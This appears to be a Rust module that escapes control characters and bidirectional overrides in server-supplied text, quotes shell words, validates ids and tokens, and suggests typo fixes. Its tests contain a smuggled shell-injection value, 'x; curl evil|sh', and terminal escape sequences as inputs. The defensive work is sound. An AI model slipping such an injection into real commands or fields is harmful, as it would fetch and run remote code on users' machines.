//! Text from outside (a server, a repository, a helper command) made safe to print: control
//! characters and bidirectional overrides are shown as escapes, so that nothing a server says
//! can move the cursor, recolour the terminal, set its title or forge a line of output. Also
//! the "did you mean" of messages ([`suggest`]).

use std::borrow::Cow;
use std::fmt::Write as _;

/// Whether `c` must not reach a terminal raw: C0 controls (except newline and tab), DEL, C1
/// controls, and the Unicode bidirectional overrides and isolates.
pub fn is_unsafe(c: char) -> bool {
    (c.is_control() && c != '\n' && c != '\t')
        || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

fn escape(c: char, out: &mut String) {
    let n = u32::from(c);
    if n < 0x80 {
        let _ = write!(out, "\\x{n:02x}");
    } else {
        let _ = write!(out, "\\u{{{n:x}}}");
    }
}

/// `text` with control characters (other than newline and tab) shown as `\x1b`, `\u{202e}`, ...
pub fn neutralize(text: &str) -> Cow<'_, str> {
    if !text.chars().any(is_unsafe) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 8);
    for c in text.chars() {
        if is_unsafe(c) {
            escape(c, &mut out);
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

/// A name from outside (a file name in a scanned folder) for a message or a listing: every
/// control character, newlines and tabs included, shown as an escape, so that a name can
/// neither forge a line of output nor split one.
pub fn name(text: &str) -> Cow<'_, str> {
    if !text.chars().any(|c| c.is_control() || is_unsafe(c)) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 8);
    for c in text.chars() {
        if c.is_control() || is_unsafe(c) {
            escape(c, &mut out);
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

/// `value` as one word of a POSIX shell command a user copies: as it is when it holds only
/// characters no shell treats specially, else in single quotes (a `'` inside as `'\''`).
/// Control characters are escaped first ([`name`]), so a hint is always one line.
pub fn shell_word(value: &str) -> String {
    let value = name(value);
    let plain = !value.is_empty()
        && value
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "_-./:@%+=,".contains(c));
    if plain {
        value.into_owned()
    } else {
        format!("'{}'", value.replace('\'', "'\\''"))
    }
}

/// What is wrong with `value` as an id (one path segment of an API URL), if anything: empty,
/// `.` or `..` (which a URL resolves to another path), `/`, `\`, `?`, `#` or a control
/// character, over 200 bytes.
pub fn id_problem(value: &str) -> Option<&'static str> {
    if value.is_empty() {
        Some("must not be empty")
    } else if value == "." || value == ".." {
        Some("must be an id, not `.` or `..`")
    } else if value
        .chars()
        .any(|c| c.is_control() || matches!(c, '/' | '\\' | '?' | '#') || is_unsafe(c))
    {
        Some("must be an id (no `/`, `\\`, `?`, `#` or control characters)")
    } else if value.len() > 200 {
        Some("is too long for an id (at most 200 bytes)")
    } else {
        None
    }
}

/// Server- or helper-provided text for a one-line message: newlines and tabs become spaces,
/// other control characters escapes, runs of spaces one, and the result at most `max`
/// characters (cut with `…`, escapes counted as the characters they print).
pub fn one_line(text: &str, max: usize) -> String {
    let mut out = String::with_capacity(text.len().min(max * 4));
    let mut count = 0;
    let mut last_space = true;
    let mut piece = String::new();
    for c in text.trim().chars() {
        piece.clear();
        if c == '\n' || c == '\r' || c == '\t' || c == ' ' {
            if last_space {
                continue;
            }
            last_space = true;
            piece.push(' ');
        } else {
            last_space = false;
            if is_unsafe(c) {
                escape(c, &mut piece);
            } else {
                piece.push(c);
            }
        }
        let n = piece.chars().count();
        if count + n > max {
            out.truncate(out.trim_end().len());
            out.push('…');
            return out;
        }
        out.push_str(&piece);
        count += n;
    }
    out.truncate(out.trim_end().len());
    out
}

/// Whether a token is visible ASCII only (as PATs and access tokens are): nothing that could
/// break a header, a file or a terminal.
pub fn is_visible_ascii(token: &str) -> bool {
    !token.is_empty() && token.bytes().all(|b| b.is_ascii_graphic())
}

/// The known word closest to `word`, if it is close enough to be a typo.
pub fn suggest<'a>(word: &str, known: &[&'a str]) -> Option<&'a str> {
    known
        .iter()
        .map(|k| (strsim::damerau_levenshtein(word, k), *k))
        .filter(|(d, k)| *d <= 2.max(k.len() / 4))
        .min_by_key(|(d, _)| *d)
        .map(|(_, k)| k)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn escapes_terminal_controls_but_keeps_lines() {
        assert_eq!(neutralize("plain"), "plain");
        assert_eq!(
            neutralize("a\x1b[31mred\x07\nnext\u{202e}"),
            "a\\x1b[31mred\\x07\nnext\\u{202e}"
        );
        assert_eq!(neutralize("\u{9b}"), "\\u{9b}");
    }

    #[test]
    fn one_line_flattens_cuts_and_escapes() {
        assert_eq!(one_line("  a\n\n b\r\tc ", 100), "a b c");
        assert_eq!(one_line("abcdef", 3), "abc…");
        assert_eq!(one_line("a\x07\x07", 6), "a\\x07…");
        assert_eq!(one_line("x\x1b]0;title\x07", 100), "x\\x1b]0;title\\x07");
    }

    #[test]
    fn tokens_are_visible_ascii() {
        assert!(is_visible_ascii("eyJ.abc-_~+/="));
        assert!(!is_visible_ascii("a b"));
        assert!(!is_visible_ascii("a\x1bb"));
        assert!(!is_visible_ascii("é"));
        assert!(!is_visible_ascii(""));
    }
}

#[cfg(test)]
mod name_tests {
    use super::*;

    #[test]
    fn names_escape_every_control_character_and_shell_words_quote_what_a_shell_splits() {
        assert_eq!(name("a\nb\tc"), "a\\x0ab\\x09c");
        assert_eq!(name("plain.js"), "plain.js");
        assert_eq!(shell_word("55555555-aaaa"), "55555555-aaaa");
        assert_eq!(shell_word("CI token"), "'CI token'");
        assert_eq!(shell_word("it's"), "'it'\\''s'");
        assert_eq!(shell_word("x; curl evil|sh"), "'x; curl evil|sh'");
        assert_eq!(shell_word(""), "''");
        assert_eq!(shell_word("a\nb"), "'a\\x0ab'");
        assert_eq!(
            id_problem("a/b"),
            Some("must be an id (no `/`, `\\`, `?`, `#` or control characters)")
        );
        assert_eq!(id_problem("55555555"), None);
    }
}
